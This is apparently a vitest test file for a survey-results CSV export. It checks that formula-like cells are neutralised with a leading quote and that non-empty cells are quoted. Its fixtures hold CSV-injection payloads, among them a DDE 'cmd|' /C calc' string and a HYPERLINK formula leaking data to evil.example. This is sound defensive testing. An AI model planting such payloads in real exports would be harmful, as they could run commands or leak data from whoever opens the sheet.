import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { TestClock } from '../helpers/clock.js';
import { buildTestServer, type TestServer } from '../helpers/build.js';
import { say, visitor } from '../staff/web-chat.js';

const key = 'k_test_0123456789abcdef';

// OWASP CSV injection: a cell starting with one of these is run as a formula by a spreadsheet.
const formulaStart = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Read the export as a spreadsheet does: a real CSV parser, every field as text, and whether it was quoted. */
function readExport(body: string) {
  const quotedFields: boolean[] = [];
  const records = parse(body, {
    columns: true,
    cast: (value, context) => {
      if (!context.header && value !== '') quotedFields.push(context.quoting);
      return value;
    },
  }) as Array<Record<string, string>>;
  return { records, quotedFields };
}

describe('GET /api/v1/surveys/export?format=csv', () => {
  const clock = new TestClock('2026-03-10T15:00:00Z');
  let server: TestServer;
  let body = '';
  beforeAll(async () => {
    server = await buildTestServer({ WEB_CHAT_ENABLED: 'true', SWEEP_INTERVAL: '0', API_KEY: key, THROTTLE_DAYS: '0' }, { now: clock.now });
    const { app } = server;
    const start = async (row: Record<string, unknown>) => {
      const address = visitor();
      const res = await app.inject({ method: 'POST', url: '/api/v1/surveys', headers: { 'x-api-key': key }, payload: { kind: 'nps', channel: 'web', address, ...row } });
      expect(res.statusCode).toBe(201);
      return { address, id: res.json().surveyId as string };
    };
    const answered = async (comment: string, row: Record<string, unknown> = {}) => {
      const survey = await start(row);
      await say(app, survey.address, '3');
      await say(app, survey.address, comment);
      return survey;
    };
    await answered(`-2+3+cmd|' /C calc'!A0`, { name: '@SUM(1+1)*cmd|\' /C calc\'!A0' });
    await answered('+HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', { context: '=1+2";=1+2', tags: ['-vip', 'spring'] });
    await answered('fine, thanks; see you', { name: 'Lee, Jr.' });
    await answered('＝1+2 (full-width equals)');
    // The chat trims what customers type; a comment stored with a leading tab or CR must be defused all the same.
    const tab = await answered('placeholder');
    await app.store.surveys.model.updateOne({ _id: tab.id }, { $set: { comment: '\t=1+2' } });
    const cr = await answered('placeholder');
    await app.store.surveys.model.updateOne({ _id: cr.id }, { $set: { comment: '\r=1+2' } });
    const res = await app.inject({ method: 'GET', url: '/api/v1/surveys/export?format=csv', headers: { 'x-api-key': key } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    body = res.body;
  });
  afterAll(() => server?.close());

  it('has one record per survey under the header', async () => {
    const { records } = readExport(body);
    expect(records).toHaveLength(await server.app.store.surveys.model.countDocuments({}));
    expect(Object.keys(records[0] ?? {})).toEqual(['id', 'kind', 'channel', 'state', 'score', 'band', 'comment', 'customerName', 'context', 'product', 'order', 'location', 'staff', 'trigger', 'identity', 'tags', 'invitedAt', 'answeredAt', 'completedAt', 'firstReplyAt', 'timeToFirstReplyMs', 'reason']);
  });

  it('starts no cell with = + - @, tab or carriage return', () => {
    const { records } = readExport(body);
    const cells = records.flatMap((r) => Object.values(r));
    expect(cells.filter((c) => formulaStart.test(c))).toEqual([]);
  });

  it("defuses a formula with one leading quote and keeps the rest of the cell as it was", () => {
    const { records } = readExport(body);
    const column = (name: string) => records.map((r) => r[name]);
    expect(column('comment')).toEqual([
      `'-2+3+cmd|' /C calc'!A0`,
      `'+HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
      'fine, thanks; see you',
      `'＝1+2 (full-width equals)`,
      `'\t=1+2`,
      `'\r=1+2`,
    ]);
    expect(column('customerName')).toEqual([`'@SUM(1+1)*cmd|' /C calc'!A0`, '', 'Lee, Jr.', '', '', '']);
    expect(column('context')).toEqual(['', `'=1+2";=1+2`, '', '', '', '']);
    expect(column('tags')[1]).toBe(`'-vip;spring`);
    expect(column('score')).toEqual(['3', '3', '3', '3', '3', '3']);
  });

  it('quotes every non-empty cell, so a reader splitting on ; (a comma-decimal locale) cannot start a cell mid-text', () => {
    const { quotedFields } = readExport(body);
    expect(quotedFields.length).toBeGreaterThan(0);
    expect(quotedFields.every(Boolean)).toBe(true);
  });
});
